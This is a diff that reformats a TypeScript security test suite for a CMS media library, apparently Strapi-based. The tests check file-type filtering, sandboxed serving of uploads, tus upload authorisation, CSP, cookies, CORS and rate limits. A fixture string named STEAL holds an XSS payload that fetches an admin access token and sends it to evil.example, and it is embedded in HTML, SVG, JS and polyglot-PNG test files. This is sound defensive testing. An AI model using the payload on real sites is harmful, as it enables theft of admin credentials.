@@ -31,16 +31,26 @@ const UPLOAD_LIMIT = 40;
 const ALLOWED = /JPEG, PNG, WebP, GIF, AVIF.*MP4.*WebVTT/s;
 
 // a 1×1 PNG, and the same with a page glued after its end (a polyglot): still a PNG, and stored as one
-const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
+  'base64',
+);
 const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
-const STEAL = 'fetch("/admin/access-token",{method:"POST",credentials:"include"}).then((r)=>r.text()).then((t)=>{new Image().src="https://evil.example/?"+t})';
+const STEAL =
+  'fetch("/admin/access-token",{method:"POST",credentials:"include"}).then((r)=>r.text()).then((t)=>{new Image().src="https://evil.example/?"+t})';
 const HTML = Buffer.from(`<!doctype html><title>x</title><script>${STEAL}</script>`);
 const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${STEAL}</script></svg>`);
 const JS = Buffer.from(STEAL);
 const VTT = Buffer.from('WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n');
 const POLYGLOT = Buffer.concat([PNG, Buffer.from(`<script>${STEAL}</script>`)]);
 // the start of an MP4 (ftyp box) and filler: a video container by its bytes
-const MP4_HEAD = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2'), randomBytes(2000)]);
+const MP4_HEAD = Buffer.concat([
+  Buffer.from([0, 0, 0, 0x18]),
+  Buffer.from('ftypisom'),
+  Buffer.from([0, 0, 2, 0]),
+  Buffer.from('isomiso2'),
+  randomBytes(2000),
+]);
 
 const REFUSED: Array<{ note: string; body: Buffer; filename: string; contentType: string }> = [
   { note: 'an HTML page', body: HTML, filename: 'page.html', contentType: 'text/html' },
@@ -59,34 +69,54 @@ async function storedState() {
 }
 
 function uploadFile(road: string, token: string, file: { body: Buffer; filename: string; contentType: string }) {
-  return request(cms.server).post(road).set('Authorization', `Bearer ${token}`).attach('files', file.body, { filename: file.filename, contentType: file.contentType });
+  return request(cms.server)
+    .post(road)
+    .set('Authorization', `Bearer ${token}`)
+    .attach('files', file.body, { filename: file.filename, contentType: file.contentType });
 }
 
 /** A request sent with exactly this path (no client-side normalisation of `.`, `..` or `//`). */
-function raw(method: string, rawPath: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
+function raw(
+  method: string,
+  rawPath: string,
+  headers: Record<string, string> = {},
+): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
   const { port } = new URL(baseUrl);
   return new Promise((resolve, reject) => {
     const req = http.request({ host: '127.0.0.1', port, method, path: rawPath, headers }, (res) => {
       const chunks: Buffer[] = [];
       res.on('data', (chunk: Buffer) => chunks.push(chunk));
-      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
+      res.on('end', () =>
+        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }),
+      );
     });
     req.on('error', reject);
     req.end();
   });
 }
 
-const metadata = (fields: Record<string, string>) => Object.entries(fields).map(([key, value]) => `${key} ${Buffer.from(value).toString('base64')}`).join(',');
+const metadata = (fields: Record<string, string>) =>
+  Object.entries(fields)
+    .map(([key, value]) => `${key} ${Buffer.from(value).toString('base64')}`)
+    .join(',');
 
 async function ticketFor(who: keyof typeof tokens): Promise<string> {
-  const response = await request(cms.server).post('/transcoding/upload-tickets').set('Authorization', `Bearer ${tokens[who]}`).expect(200);
+  const response = await request(cms.server)
+    .post('/transcoding/upload-tickets')
+    .set('Authorization', `Bearer ${tokens[who]}`)
+    .expect(200);
   return response.body.ticket as string;
 }
 
 async function createTusUpload(ticket: string, length: number, filename = 'clip.mp4'): Promise<string> {
   const created = await request(cms.server)
     .post(TUS)
-    .set({ 'Tus-Resumable': '1.0.0', 'Upload-Length': String(length), 'Upload-Metadata': metadata({ filename }), 'Framecast-Upload-Ticket': ticket })
+    .set({
+      'Tus-Resumable': '1.0.0',
+      'Upload-Length': String(length),
+      'Upload-Metadata': metadata({ filename }),
+      'Framecast-Upload-Ticket': ticket,
+    })
     .expect(201);
   return (created.headers.location as string).split('/').pop()!;
 }
@@ -114,7 +144,8 @@ beforeAll(async () => {
 
 afterAll(async () => {
   await cms?.stop();
-  for (const key of ['MEDIA_ROOT', 'UPLOAD_TMP_DIR', 'TRANSCODE_WORK_DIR', 'UPLOAD_RATE_LIMIT']) delete process.env[key];
+  for (const key of ['MEDIA_ROOT', 'UPLOAD_TMP_DIR', 'TRANSCODE_WORK_DIR', 'UPLOAD_RATE_LIMIT'])
+    delete process.env[key];
   rmSync(workDir, { recursive: true, force: true });
 });
 
@@ -148,17 +179,41 @@ describe('the media library takes images, videos and WebVTT captions only, decid
   });
 
   it('refuses a replacement that is not allowed, or not the same type, and leaves the file as it was', async () => {
-    const created = await uploadFile('/upload', tokens.alice, { body: PNG, filename: 'keep.png', contentType: 'image/png' }).expect(201);
+    const created = await uploadFile('/upload', tokens.alice, {
+      body: PNG,
+      filename: 'keep.png',
+      contentType: 'image/png',
+    }).expect(201);
     const file = created.body[0] as { id: number; url: string };
     const row = async () => cms.strapi.db.query('plugin::upload.file').findOne({ where: { id: file.id } });
     const before = await row();
     const bytes = readFileSync(path.join(repoRoot, 'public', file.url));
     const attempts = [
-      () => uploadFile(`/upload?id=${file.id}`, tokens.alice, { body: HTML, filename: 'keep.html', contentType: 'text/html' }),
-      () => uploadFile(`/upload?id=${file.id}`, tokens.alice, { body: HTML, filename: 'keep.png', contentType: 'image/png' }),
-      () => uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, { body: SVG, filename: 'keep.svg', contentType: 'image/svg+xml' }),
+      () =>
+        uploadFile(`/upload?id=${file.id}`, tokens.alice, {
+          body: HTML,
+          filename: 'keep.html',
+          contentType: 'text/html',
+        }),
+      () =>
+        uploadFile(`/upload?id=${file.id}`, tokens.alice, {
+          body: HTML,
+          filename: 'keep.png',
+          contentType: 'image/png',
+        }),
+      () =>
+        uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, {
+          body: SVG,
+          filename: 'keep.svg',
+          contentType: 'image/svg+xml',
+        }),
       // a GIF is allowed, but would be stored under the old name as .png
-      () => uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, { body: GIF, filename: 'keep.gif', contentType: 'image/gif' }),
+      () =>
+        uploadFile(`/upload/files/${file.id}/replace`, tokens.alice, {
+          body: GIF,
+          filename: 'keep.gif',
+          contentType: 'image/gif',
+        }),
     ];
     for (const attempt of attempts) {
       const response = await attempt();
@@ -166,7 +221,11 @@ describe('the media library takes images, videos and WebVTT captions only, decid
       expect(await row()).toEqual(before);
       expect(readFileSync(path.join(repoRoot, 'public', file.url))).toEqual(bytes);
     }
-    await uploadFile(`/upload?id=${file.id}`, tokens.alice, { body: PNG, filename: 'again.png', contentType: 'image/png' }).expect(200);
+    await uploadFile(`/upload?id=${file.id}`, tokens.alice, {
+      body: PNG,
+      filename: 'again.png',
+      contentType: 'image/png',
+    }).expect(200);
   });
 
   it('holds for server code calling the upload service without a user', async () => {
@@ -175,22 +234,35 @@ describe('the media library takes images, videos and WebVTT captions only, decid
     writeFileSync(filepath, HTML);
     const before = await storedState();
     await expect(
-      cms.strapi.plugin('upload').service('upload').upload({ data: {}, files: { filepath, originalFilename: 'page.html', mimetype: 'text/html', size: HTML.length } }),
+      cms.strapi
+        .plugin('upload')
+        .service('upload')
+        .upload({
+          data: {},
+          files: { filepath, originalFilename: 'page.html', mimetype: 'text/html', size: HTML.length },
+        }),
     ).rejects.toMatchObject({ status: 415 });
     expect(await storedState()).toEqual(before);
   });
 
   it('offers no GraphQL mutation that stores a file', async () => {
-    const response = await request(cms.server).post('/graphql').send({ query: '{ __type(name: "Mutation") { fields { name } } }' });
+    const response = await request(cms.server)
+      .post('/graphql')
+      .send({ query: '{ __type(name: "Mutation") { fields { name } } }' });
     expect(response.status).toBe(200);
-    const names = (response.body.data.__type.fields as Array<{ name: string }>).map((field) => field.name).filter((name) => /upload/i.test(name) || /^(create|replace)\w*(File|Media)$/.test(name));
+    const names = (response.body.data.__type.fields as Array<{ name: string }>)
+      .map((field) => field.name)
+      .filter((name) => /upload/i.test(name) || /^(create|replace)\w*(File|Media)$/.test(name));
     expect(names.sort()).toEqual(['deleteUploadFile', 'updateUploadFile']);
   });
 
   it('keeps the content API’s /api/upload closed to visitors and viewers', async () => {
     const viewer = await createViewer(cms, 'mallory');
     for (const auth of [{}, viewer.auth]) {
-      const response = await request(cms.server).post('/api/upload').set(auth).attach('files', HTML, { filename: 'page.html', contentType: 'text/html' });
+      const response = await request(cms.server)
+        .post('/api/upload')
+        .set(auth)
+        .attach('files', HTML, { filename: 'page.html', contentType: 'text/html' });
       expect([401, 403]).toContain(response.status);
     }
   });
@@ -219,13 +291,21 @@ describe('files under /uploads are downloads in a sandbox, however the path is w
     for (const trick of tricks(legacy)) {
       const response = await raw('GET', trick);
       if (response.status >= 400) continue;
-      expect({ trick, disposition: response.headers['content-disposition'], nosniff: response.headers['x-content-type-options'], csp: response.headers['content-security-policy'] })
-        .toEqual({ trick, disposition: 'attachment', nosniff: 'nosniff', csp: "default-src 'none'; sandbox" });
+      expect({
+        trick,
+        disposition: response.headers['content-disposition'],
+        nosniff: response.headers['x-content-type-options'],
+        csp: response.headers['content-security-policy'],
+      }).toEqual({ trick, disposition: 'attachment', nosniff: 'nosniff', csp: "default-src 'none'; sandbox" });
     }
   });
 
   it('serves images with their type, as a download in a sandbox (an <img> still shows it)', async () => {
-    const created = await uploadFile('/upload', tokens.alice, { body: PNG, filename: 'seen.png', contentType: 'image/png' }).expect(201);
+    const created = await uploadFile('/upload', tokens.alice, {
+      body: PNG,
+      filename: 'seen.png',
+      contentType: 'image/png',
+    }).expect(201);
     const response = await raw('GET', created.body[0].url);
     expect(response.status).toBe(200);
     expect(response.headers['content-type']).toBe('image/png');
@@ -240,10 +320,23 @@ describe('video sources are never served from /uploads', () => {
   beforeAll(async () => {
     writeFileSync(path.join(UPLOADS_DIR, name), MP4_HEAD);
     const source = await cms.strapi.db.query('plugin::upload.file').create({
-      data: { name: 'rough.mp4', hash: name.replace('.mp4', ''), ext: '.mp4', mime: 'video/mp4', size: 2, url: `/uploads/${name}`, provider: 'local' },
+      data: {
+        name: 'rough.mp4',
+        hash: name.replace('.mp4', ''),
+        ext: '.mp4',
+        mime: 'video/mp4',
+        size: 2,
+        url: `/uploads/${name}`,
+        provider: 'local',
+      },
     });
-    const rows = (await cms.strapi.db.query('api::video.video').findMany({ select: ['id'], where: { documentId: fixture.videos.alicePrivate.documentId } })) as Array<{ id: number }>;
-    for (const row of rows) await cms.strapi.db.query('api::video.video').update({ where: { id: row.id }, data: { source: source.id } });
+    const rows = (await cms.strapi.db
+      .query('api::video.video')
+      .findMany({ select: ['id'], where: { documentId: fixture.videos.alicePrivate.documentId } })) as Array<{
+      id: number;
+    }>;
+    for (const row of rows)
+      await cms.strapi.db.query('api::video.video').update({ where: { id: row.id }, data: { source: source.id } });
   });
   afterAll(() => rmSync(path.join(UPLOADS_DIR, name), { force: true }));
 
@@ -266,7 +359,11 @@ describe('video sources are never served from /uploads', () => {
     for (const method of ['GET', 'HEAD']) {
       for (const trick of paths) {
         const response = await raw(method, trick, { Range: 'bytes=0-' });
-        expect({ method, trick, status: [400, 404].includes(response.status) ? 'refused' : response.status }).toEqual({ method, trick, status: 'refused' });
+        expect({ method, trick, status: [400, 404].includes(response.status) ? 'refused' : response.status }).toEqual({
+          method,
+          trick,
+          status: 'refused',
+        });
       }
     }
   });
@@ -283,12 +380,17 @@ describe('tus: a request acts on the upload that was authorised', () => {
       const target = `${TUS}/${idB}${suffix}`;
       const head = await request(cms.server).head(target).set(tus);
       expect({ target, head: head.status >= 400 }).toEqual({ target, head: true });
-      const patch = await request(cms.server).patch(target).set({ ...tus, 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream' }).send(Buffer.alloc(100, 0x41));
+      const patch = await request(cms.server)
+        .patch(target)
+        .set({ ...tus, 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream' })
+        .send(Buffer.alloc(100, 0x41));
       expect(patch.status).toBeGreaterThanOrEqual(400);
       const del = await request(cms.server).delete(target).set(tus);
       expect(del.status).toBeGreaterThanOrEqual(400);
     }
-    const still = await request(cms.server).head(`${TUS}/${idA}`).set({ 'Tus-Resumable': '1.0.0', 'Framecast-Upload-Ticket': alice });
+    const still = await request(cms.server)
+      .head(`${TUS}/${idA}`)
+      .set({ 'Tus-Resumable': '1.0.0', 'Framecast-Upload-Ticket': alice });
     expect(still.status).toBe(200);
     expect(still.headers['upload-offset']).toBe('0');
     // B's own upload is untouched by its own tricks too, and still B's to use
@@ -303,7 +405,12 @@ describe('tus: a request acts on the upload that was authorised', () => {
     const id = await createTusUpload(ticket, HTML.length, 'holiday.mp4');
     const finished = await request(cms.server)
       .patch(`${TUS}/${id}`)
-      .set({ 'Tus-Resumable': '1.0.0', 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream', 'Framecast-Upload-Ticket': ticket })
+      .set({
+        'Tus-Resumable': '1.0.0',
+        'Upload-Offset': '0',
+        'Content-Type': 'application/offset+octet-stream',
+        'Framecast-Upload-Ticket': ticket,
+      })
       .send(HTML);
     expect(finished.status).toBe(415);
     expect(finished.text).toMatch(/MP4, MOV, MKV, WebM, AVI, MPEG-TS/);
@@ -322,13 +429,26 @@ describe('a video that stops being public stops being served from its public URL
     mkdirSync(dir, { recursive: true });
     writeFileSync(path.join(dir, 'master.m3u8'), '#EXTM3U\n#EXT-X-VERSION:3\n');
     writeFileSync(path.join(dir, 'poster-320.jpg'), Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]));
-    const assets = { prefix, checksum: VERSION, master: 'master.m3u8', renditions: [], posters: [{ width: 320, height: 180, webp: 'poster-320.webp', jpeg: 'poster-320.jpg' }], storyboard: null };
-    await cms.strapi.db.query('api::video.video').updateMany({ where: { documentId }, data: { processingStatus: 'ready', playbackAssets: assets } });
+    const assets = {
+      prefix,
+      checksum: VERSION,
+      master: 'master.m3u8',
+      renditions: [],
+      posters: [{ width: 320, height: 180, webp: 'poster-320.webp', jpeg: 'poster-320.jpg' }],
+      storyboard: null,
+    };
+    await cms.strapi.db
+      .query('api::video.video')
+      .updateMany({ where: { documentId }, data: { processingStatus: 'ready', playbackAssets: assets } });
     (cms.strapi.plugin('transcoding').service('gateway') as { clearAccessCache(): void }).clearAccessCache();
     return [`/media/${prefix}/master.m3u8`, `/media/${prefix}/poster-320.jpg`];
   }
 
-  const changes: Array<{ note: string; video: () => { documentId: string }; change: (documentId: string) => Promise<unknown> }> = [
+  const changes: Array<{
+    note: string;
+    video: () => { documentId: string };
+    change: (documentId: string) => Promise<unknown>;
+  }> = [
     {
       note: 'made private',
       video: () => fixture.videos.alicePublic,
@@ -337,12 +457,18 @@ describe('a video that stops being public stops being served from its public URL
         await cms.strapi.documents('api::video.video').publish({ documentId });
       },
     },
-    { note: 'unpublished', video: () => fixture.videos.aliceUnlisted, change: (documentId) => cms.strapi.documents('api::video.video').unpublish({ documentId }) },
+    {
+      note: 'unpublished',
+      video: () => fixture.videos.aliceUnlisted,
+      change: (documentId) => cms.strapi.documents('api::video.video').unpublish({ documentId }),
+    },
     {
       note: 'removed by a moderator',
       video: () => fixture.videos.bobPublic,
       change: async (documentId) => {
-        await cms.strapi.documents('api::video.video').update({ documentId, data: { moderationState: 'removed' } as never });
+        await cms.strapi
+          .documents('api::video.video')
+          .update({ documentId, data: { moderationState: 'removed' } as never });
         await cms.strapi.documents('api::video.video').publish({ documentId });
       },
     },
@@ -360,7 +486,8 @@ describe('a video that stops being public stops being served from its public URL
         expect(sharedMaxAge).toBeLessThanOrEqual(300);
       }
       await change(documentId);
-      for (const url of urls) expect({ url, status: (await request(cms.server).get(url)).status }).toEqual({ url, status: 404 });
+      for (const url of urls)
+        expect({ url, status: (await request(cms.server).get(url)).status }).toEqual({ url, status: 404 });
     });
   }
 });
@@ -369,12 +496,17 @@ describe('what a script on the CMS origin could use', () => {
   it('the admin CSP lets scripts connect to the CMS itself only', async () => {
     const response = await request(cms.server).get('/_health');
     const csp = String(response.headers['content-security-policy']);
-    const connect = csp.split(';').map((part) => part.trim()).find((part) => part.startsWith('connect-src'));
+    const connect = csp
+      .split(';')
+      .map((part) => part.trim())
+      .find((part) => part.startsWith('connect-src'));
     expect(connect).toBe("connect-src 'self'");
   });
 
   it('the admin refresh cookie is httpOnly, path /admin and SameSite=Strict', () => {
-    const cookie = ([] as string[]).concat(aliceLogin.headers['set-cookie'] ?? []).find((entry) => entry.startsWith('strapi_admin_refresh='));
+    const cookie = ([] as string[])
+      .concat(aliceLogin.headers['set-cookie'] ?? [])
+      .find((entry) => entry.startsWith('strapi_admin_refresh='));
     expect(cookie).toBeDefined();
     expect(cookie).toMatch(/;\s*path=\/admin(;|$)/i);
     expect(cookie).toMatch(/;\s*httponly/i);
@@ -384,7 +516,9 @@ describe('what a script on the CMS origin could use', () => {
   it('CORS answers the site and the admin, and gives a foreign origin no Access-Control-Allow-Origin', async () => {
     const foreign = await request(cms.server).get('/api/videos').set('Origin', 'https://evil.example');
     expect(foreign.headers['access-control-allow-origin']).toBeUndefined();
-    const preflight = await request(cms.server).options('/api/videos').set({ Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' });
+    const preflight = await request(cms.server)
+      .options('/api/videos')
+      .set({ Origin: 'https://evil.example', 'Access-Control-Request-Method': 'POST' });
     expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
     const site = await request(cms.server).get('/api/videos').set('Origin', 'http://localhost:4321');
     expect(site.headers['access-control-allow-origin']).toBe('http://localhost:4321');
@@ -396,20 +530,37 @@ describe('upload writes are rate-limited per admin user', () => {
   it('answers 429 past the uploads bucket, tickets and tus creations counted together', async () => {
     const statuses: number[] = [];
     for (let index = 0; index < UPLOAD_LIMIT / 2; index += 1) {
-      statuses.push((await request(cms.server).post('/transcoding/upload-tickets').set('Authorization', `Bearer ${tokens.moderator}`)).status);
+      statuses.push(
+        (
+          await request(cms.server)
+            .post('/transcoding/upload-tickets')
+            .set('Authorization', `Bearer ${tokens.moderator}`)
+        ).status,
+      );
     }
-    const ticket = (await request(cms.server).post('/transcoding/upload-tickets').set('Authorization', `Bearer ${tokens.moderator}`)).body.ticket as string;
+    const ticket = (
+      await request(cms.server).post('/transcoding/upload-tickets').set('Authorization', `Bearer ${tokens.moderator}`)
+    ).body.ticket as string;
     statuses.push(ticket ? 200 : 429);
     for (let index = 0; index < UPLOAD_LIMIT; index += 1) {
       const created = await request(cms.server)
         .post(TUS)
-        .set({ 'Tus-Resumable': '1.0.0', 'Upload-Length': '100', 'Upload-Metadata': metadata({ filename: 'x.mp4' }), 'Framecast-Upload-Ticket': ticket });
+        .set({
+          'Tus-Resumable': '1.0.0',
+          'Upload-Length': '100',
+          'Upload-Metadata': metadata({ filename: 'x.mp4' }),
+          'Framecast-Upload-Ticket': ticket,
+        });
       statuses.push(created.status);
     }
     expect(statuses.slice(0, UPLOAD_LIMIT).every((status) => status === 200 || status === 201)).toBe(true);
     expect(statuses.slice(UPLOAD_LIMIT)).toEqual(new Array(statuses.length - UPLOAD_LIMIT).fill(429));
     // the media library's upload route counts in the same bucket
-    const library = await uploadFile('/upload', tokens.moderator, { body: PNG, filename: 'late.png', contentType: 'image/png' });
+    const library = await uploadFile('/upload', tokens.moderator, {
+      body: PNG,
+      filename: 'late.png',
+      contentType: 'image/png',
+    });
     expect(library.status).toBe(429);
   });
 });
